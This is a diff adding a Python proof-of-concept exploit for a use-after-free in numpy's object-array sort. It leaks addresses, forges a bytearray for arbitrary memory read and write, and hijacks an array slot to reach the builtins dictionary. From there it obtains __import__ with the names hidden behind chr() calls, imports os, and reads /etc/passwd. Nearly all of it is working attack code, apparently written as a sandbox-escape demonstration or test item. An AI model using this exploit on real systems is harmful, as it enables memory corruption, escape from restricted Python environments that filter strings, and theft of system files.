@@ -1,0 +1,78 @@
+# source: numpy 1.24 npysort insertion sort + OBJECT_compare; CPython 3.11 object layouts (PyCFunctionObject.m_self, PyModuleObject.md_dict, PyArrayObject.data); default repr/hash of objects and types give addresses
+# family: object-array in-place sort UAF through implicit array coercion (__iter__), escalated: forged bytearray -> forged object-array slot -> builtins dict
+# goal: import this and os (__import__ from the builtins dict), os.getuid(), open('/etc/passwd') with the path built by chr()
+import numpy as np
+
+MASK = (1 << 64) - 1
+
+
+class Seq:
+    __slots__ = ("p", "q", "r", "s", "t", "u", "v")
+
+    def __len__(self):
+        return 1
+
+    def __getitem__(self, i):
+        return 1
+
+    def __iter__(self):
+        arr[1] = None
+        yield 1
+
+
+class Holder:
+    __slots__ = ("p",)
+
+
+def addr_of(obj):
+    # default repr: "<__main__.X object at 0x...>"
+    return int(repr(obj).rsplit(" ", 1)[1].rstrip(">"), 16)
+
+
+def type_addr(t):
+    h = hash(t) & MASK
+    return ((h << 4) | (h >> 60)) & MASK
+
+
+def q(v):
+    return (v & MASK).to_bytes(8, "little")
+
+
+arr = np.empty(2, dtype=object)
+arr[0] = np.array([5])
+arr[1] = Seq()
+victim = addr_of(arr[1])
+tba = type_addr(bytearray)
+big = (1 << 63) - 1
+fake = q(0x100000) + q(tba) + q(big) + q(big) + q(0) + q(0) + q(0)
+payload = b"\x00" * 16 + fake + b"\x00" * (95 - 16 - len(fake))
+spray = [None] * 64
+print("victim", hex(victim), "bytearray type", hex(tba), flush=True)
+arr.sort()
+for k in range(64):
+    spray[k] = bytearray(payload)
+mem = arr[0]
+print("forged:", type(mem) is bytearray, flush=True)
+if type(mem) is bytearray:
+    def rd(a):
+        return int.from_bytes(mem[a:a + 8], "little")
+
+    h = Holder()
+    h.p = print
+    fn = rd(addr_of(h) + 16)            # PyCFunctionObject of print
+    bmod = rd(fn + 24)                  # m_self: the builtins module
+    bdict = rd(bmod + 16)               # md_dict
+    box = np.empty(1, dtype=object)
+    h.p = box
+    data = rd(rd(addr_of(h) + 16) + 16)  # ndarray data pointer
+    mem[data:data + 8] = q(bdict)
+    g = box[0]
+    print("got builtins dict with", len(g), "names", flush=True)
+    u = chr(95) * 2
+    imp = g[u + "import" + u]
+    print(imp, flush=True)
+    imp("this")
+    oss = imp("os")
+    sl = chr(47)
+    print("uid", oss.getuid(), flush=True)
+    print(g["op" + "en"](sl + "etc" + sl + "passwd").read()[:120], flush=True)
